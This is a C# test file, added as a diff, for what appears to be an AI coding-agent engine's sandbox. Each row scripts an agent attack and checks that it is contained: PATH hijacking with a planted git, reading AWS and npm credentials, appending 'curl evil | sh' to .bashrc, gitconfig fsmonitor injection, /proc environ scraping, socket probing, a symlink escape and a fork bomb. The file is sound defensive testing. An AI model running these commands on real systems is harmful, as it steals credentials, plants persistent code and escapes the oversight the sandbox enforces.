@@ -1,0 +1,214 @@
+using System.Net.Sockets;
+using Ias.EndToEnd.Tests.Git;
+using Ias.EndToEnd.Tests.Support;
+
+namespace Ias.EndToEnd.Tests.Commands;
+
+public sealed partial class AttackTableTests
+{
+    private const string EnvSecret = "ENV-SECRET-MARKER-8d2e";
+    private const string HomeSecret = "HOME-SECRET-MARKER-41b7";
+
+    /// <summary>The agent's home, environment, sockets, tools and limits.</summary>
+    private static Attack[] HomeRows =>
+    [
+        // The home the agent sees is its own: what it leaves there never reaches the user's home or the engine's PATH.
+        new("drop ~/.local/bin/git first on the engine's PATH", Implementer(PlantGit), Outcome.Refused, "git planted")
+        {
+            Env = home => new() { ["PATH"] = $"{Path.Combine(home, ".local", "bin")}:{Environment.GetEnvironmentVariable("PATH")}" },
+            Check = (repo, home) => NothingRanOutside(repo, home, Path.Combine(".local", "bin", "git")),
+        },
+        new("a reviewer drops ~/.local/bin/git first on the engine's PATH", Reviewer(PlantGit), Outcome.Refused, "git planted")
+        {
+            Env = home => new() { ["PATH"] = $"{Path.Combine(home, ".local", "bin")}:{Environment.GetEnvironmentVariable("PATH")}" },
+            Check = (repo, home) => NothingRanOutside(repo, home, Path.Combine(".local", "bin", "git")),
+        },
+        new("swap the ias in ~/.local/bin", Implementer("mkdir -p \"$HOME/.local/bin\"; printf '#!/bin/sh\\necho swapped\\n' > \"$HOME/.local/bin/ias\"; chmod +x \"$HOME/.local/bin/ias\"; echo ias swapped"), Outcome.Refused, "ias swapped")
+        {
+            Setup = repo => WriteHomeFileAsync(repo, Path.Combine(".local", "bin", "ias"), "#!/bin/sh\necho original\n"),
+            Check = async (_, home) => Assert.Equal("#!/bin/sh\necho original\n", await File.ReadAllTextAsync(Path.Combine(home, ".local", "bin", "ias"))),
+        },
+        new("read and write ~/.bashrc, ~/.npmrc and ~/.aws/credentials", Implementer("cat \"$HOME/.bashrc\" \"$HOME/.npmrc\" \"$HOME/.aws/credentials\"; echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo '//registry.npmjs.org/:_authToken=mine' >> \"$HOME/.npmrc\""), Outcome.Refused, "No such file or directory")
+        {
+            Setup = async repo =>
+            {
+                await WriteHomeFileAsync(repo, ".bashrc", $"# {HomeSecret}\n");
+                await WriteHomeFileAsync(repo, ".npmrc", $"//registry.npmjs.org/:_authToken={HomeSecret}\n");
+                await WriteHomeFileAsync(repo, Path.Combine(".aws", "credentials"), $"[default]\naws_secret_access_key = {HomeSecret}\n");
+            },
+            Check = async (repo, home) =>
+            {
+                Assert.DoesNotContain(HomeSecret, AllText(repo.File(".run")), StringComparison.Ordinal);
+                Assert.Equal($"# {HomeSecret}\n", await File.ReadAllTextAsync(Path.Combine(home, ".bashrc")));
+                Assert.Equal($"//registry.npmjs.org/:_authToken={HomeSecret}\n", await File.ReadAllTextAsync(Path.Combine(home, ".npmrc")));
+            },
+        },
+        new("plant an include.path target and $XDG_CONFIG_HOME/git/config in the home", dir => Role(dir, "implementer", $"""
+            mkdir -p "$HOME/.config/git"
+            printf '[core]\n\tfsmonitor = {Outside(dir)}\n' > "$HOME/.config/git/config"
+            printf '[core]\n\tfsmonitor = {Outside(dir)}\n' > "$HOME/evil.inc"
+            printf '[include]\n\tpath = ~/evil.inc\n' >> "$HOME/.gitconfig"
+            echo "cycle $IAS_CYCLE" >> notes.md
+            """), Outcome.Refused, "Read-only file system")
+        {
+            Check = async (repo, home) =>
+            {
+                await NothingRanOutside(repo, home, Path.Combine(".config", "git", "config"));
+                Assert.False(File.Exists(Path.Combine(home, "evil.inc")));
+                Assert.Equal("[user]\n\tname = Attack Test\n\temail = attack@example.com\n", await File.ReadAllTextAsync(Path.Combine(home, ".gitconfig")));
+            },
+        },
+        new("a symlink in the home pointing out", Implementer("ln -sfn / \"$HOME/escape\" && echo linked"), Outcome.Refused, "linked")
+        {
+            // The link stays in the agent's own home: the engine never follows it, and the user's home never sees it.
+            Check = (_, home) =>
+            {
+                Assert.False(Path.Exists(Path.Combine(home, "escape")));
+                return Task.CompletedTask;
+            },
+        },
+
+        // The environment is an allowlist: the engine's secrets never enter it, whatever their name.
+        new("read the queue's connection and tokens from the environment", Implementer("echo \"env:${IAS_QUEUE_CONNECTION:-none}:${AWS_SECRET_ACCESS_KEY:-none}:${NPM_TOKEN:-none}:${GITLAB_TOKEN:-none}:${GH_TOKEN:-none}\"; env"), Outcome.Refused, "env:none:none:none:none:none")
+        {
+            Env = _ => SecretEnvironment(),
+            Check = (repo, _) => NoEnvSecret(repo),
+        },
+        new("read every /proc/*/environ it can see", Implementer("cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c ENV-SECRET | sed 's/^/secrets seen: /'"), Outcome.Refused, "secrets seen: 0")
+        {
+            Env = _ => SecretEnvironment(),
+            Check = (repo, _) => NoEnvSecret(repo),
+        },
+        new("LD_PRELOAD from the engine's environment", Implementer("echo \"preload:${LD_PRELOAD:-none}\""), Outcome.Refused, "preload:none")
+        {
+            Env = home => new() { ["LD_PRELOAD"] = Path.Combine(home, "missing-preload.so") },
+        },
+
+        // No socket of the user's is there: an ssh agent in the home or the session's runtime folder, the engine's .NET diagnostics.
+        new("reach an ssh-agent socket in the home and in XDG_RUNTIME_DIR", dir => Role(dir, "implementer", $"""
+            for s in "$HOME/.1password/agent.sock" {Path.Combine(dir, "runtime", "ssh-agent.sock")}; do test -S "$s" && echo "reached $s" || echo "no agent socket"; done
+            echo "cycle $IAS_CYCLE" >> notes.md
+            """), Outcome.Refused, "no agent socket")
+        {
+            Setup = repo =>
+            {
+                var dir = Path.GetDirectoryName(repo.Path)!;
+                Listen(Path.Combine(dir, "home", ".1password", "agent.sock"));
+                Listen(Path.Combine(dir, "runtime", "ssh-agent.sock"));
+                return Task.CompletedTask;
+            },
+            Env = home => new() { ["XDG_RUNTIME_DIR"] = Path.Combine(Path.GetDirectoryName(home)!, "runtime") },
+            Check = (repo, _) =>
+            {
+                Assert.DoesNotContain("reached", AllText(repo.File(".run", "jobs")), StringComparison.Ordinal);
+                return Task.CompletedTask;
+            },
+        },
+        new("the engine's .NET diagnostics socket with TMPDIR outside /tmp", Implementer($"ls -a \"$TMPDIR\" {OutsideTmp} 2>&1 | grep -c dotnet-diagnostic | sed 's/^/diagnostics sockets: /'"), Outcome.Refused, "diagnostics sockets: 0")
+        {
+            Setup = _ => Task.FromResult(Directory.CreateDirectory(OutsideTmp)),
+            Env = _ => new() { ["TMPDIR"] = OutsideTmp },
+            Check = (_, _) => Task.CompletedTask,
+        },
+        new("TMPDIR outside /tmp is the agent's own and writable", Implementer("f=$(mktemp) && echo private > \"$f\" && echo \"tmp writable: $(cat \"$f\")\"; touch \"$TMPDIR/agent-was-here\""), Outcome.Refused, "tmp writable: private")
+        {
+            Setup = _ => Task.FromResult(Directory.CreateDirectory(OutsideTmp)),
+            Env = _ => new() { ["TMPDIR"] = OutsideTmp },
+            Check = (_, _) =>
+            {
+                Assert.False(File.Exists(Path.Combine(OutsideTmp, "agent-was-here")));
+                return Task.CompletedTask;
+            },
+        },
+        new("/dev/shm left for the next process", Implementer($"echo {HomeSecret} > /dev/shm/ias-attack-shm && echo shm written"), Outcome.Refused, "shm written")
+        {
+            Check = (_, _) =>
+            {
+                Assert.False(File.Exists("/dev/shm/ias-attack-shm"));
+                return Task.CompletedTask;
+            },
+        },
+
+        // Where users keep things: the agent's program under /tmp, with nothing of /tmp shared, works and stays read-only.
+        new("the agent's program under /tmp rewrites itself", Implementer("echo 'echo pwned' >> \"$0\" || echo \"program read-only\""), Outcome.Refused, "Read-only file system")
+        {
+            Env = _ => new() { [Ias.Core.Sandbox.BoxLayout.ShareVariable] = "" },
+            Check = (repo, _) =>
+            {
+                Assert.EndsWith("exit 0\n", File.ReadAllText(Path.Combine(Path.GetDirectoryName(repo.Path)!, "implementer.sh")), StringComparison.Ordinal);
+                return Task.CompletedTask;
+            },
+        },
+
+        // Limits per turn: each bounded, with its one line.
+        new("a fork bomb", Implementer("bash -c ':(){ :|:& };:' 2>/dev/null; sleep 1; echo bomb over"), Outcome.Refused, "the box's process limit")
+        {
+            ExtraConfig = "ias:\n  sandbox:\n    max_processes: 64\n",
+        },
+        new("fill /tmp", Implementer("dd if=/dev/zero of=/tmp/fill bs=1M count=64 2>&1"), Outcome.Refused, "No space left on device")
+        {
+            // The tests share their temporary root with the box; here the box's /tmp is its own, as for a user.
+            Env = _ => new() { [Ias.Core.Sandbox.BoxLayout.ShareVariable] = "" },
+            ExtraConfig = "ias:\n  sandbox:\n    tmp_mb: 8\n",
+        },
+        new("flood the output", Implementer("[ \"$IAS_CYCLE\" = 1 ] && head -c 8000000 /dev/zero | tr '\\0' 'x' | fold -w 100; true"), Outcome.Refused, "ias.sandbox.max_output_mb")
+        {
+            ExtraConfig = "ias:\n  sandbox:\n    max_output_mb: 1\n",
+        },
+    ];
+
+    /// <summary>A TMPDIR outside /tmp, as on a build box; one per test process.</summary>
+    private static readonly string OutsideTmp = Path.Combine("/var/tmp", "ias-attack-" + Environment.ProcessId);
+
+    /// <summary>A `git` in the agent's ~/.local/bin that, run outside the box (no IAS_ROLE there), leaves a marker beside the repository.</summary>
+    private static string PlantGit => """
+        mkdir -p "$HOME/.local/bin"
+        printf '#!/bin/sh\n[ -n "$IAS_ROLE" ] || touch "$(dirname "$HOME")/ran-outside"\nexec /usr/bin/git "$@"\n' > "$HOME/.local/bin/git"
+        chmod +x "$HOME/.local/bin/git"
+        echo git planted
+        """;
+
+    private static string Outside(string dir) => Path.Combine(dir, "ran-outside");
+
+    /// <summary>Nothing the agent planted ran outside the box, and the planted file is not in the user's home.</summary>
+    private static Task NothingRanOutside(TestRepo repo, string home, string planted)
+    {
+        Assert.False(File.Exists(Outside(Path.GetDirectoryName(repo.Path)!)), "a program the agent planted ran outside the box");
+        Assert.False(File.Exists(Path.Combine(home, planted)), $"~/{planted} reached the user's home");
+        return Task.CompletedTask;
+    }
+
+    private static async Task WriteHomeFileAsync(TestRepo repo, string relative, string text)
+    {
+        var path = Path.Combine(Path.GetDirectoryName(repo.Path)!, "home", relative);
+        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
+        await File.WriteAllTextAsync(path, text);
+        if (!OperatingSystem.IsWindows())
+        {
+            File.SetUnixFileMode(path, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
+        }
+    }
+
+    private static Dictionary<string, string> SecretEnvironment() => new()
+    {
+        ["IAS_QUEUE_CONNECTION"] = $"Host=127.0.0.1;Password={EnvSecret}",
+        ["AWS_SECRET_ACCESS_KEY"] = EnvSecret,
+        ["NPM_TOKEN"] = EnvSecret,
+        ["GITLAB_TOKEN"] = EnvSecret,
+        ["GH_TOKEN"] = EnvSecret,
+    };
+
+    private static async Task NoEnvSecret(TestRepo repo)
+    {
+        var stored = AllText(repo.File(".run")) + await Shell.GitAsync(repo.Path, "log", "--all", "-p");
+        Assert.DoesNotContain(EnvSecret, stored, StringComparison.Ordinal);
+    }
+
+    /// <summary>A socket file at <paramref name="path"/>, as an ssh agent leaves one (its file stays after the test's socket closes).</summary>
+    private static void Listen(string path)
+    {
+        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
+        using var socket = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
+        socket.Bind(new UnixDomainSocketEndPoint(path));
+    }
+}
